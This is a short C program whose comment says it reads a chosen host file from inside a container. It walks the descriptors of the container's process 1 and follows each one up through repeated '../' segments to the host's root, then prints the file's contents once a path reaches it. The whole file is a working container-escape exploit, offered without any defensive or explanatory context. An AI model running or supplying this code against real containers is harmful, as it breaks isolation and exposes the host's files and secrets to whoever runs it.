/* climb PATH: reads the host's file PATH through each descriptor that process 1 of the container has. */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

enum { DESCRIPTORS = 64 };

int main(int argc, char **argv)
{
	char path[512], text[128];

	for (int fd = 0; argc > 1 && fd < DESCRIPTORS; fd++) {
		snprintf(path, sizeof path,
			 "/proc/1/fd/%d/../../../../../../../../../../../../../../../../%s", fd,
			 argv[1]);
		int file = open(path, O_RDONLY);
		ssize_t got = file < 0 ? -1 : read(file, text, sizeof text);

		if (got > 0) {
			printf("descriptor %d leads to the host: %.*s\n", fd, (int)got, text);
			return 0;
		}
	}
	printf("the init has no directory of the host\n");
	return 0;
}
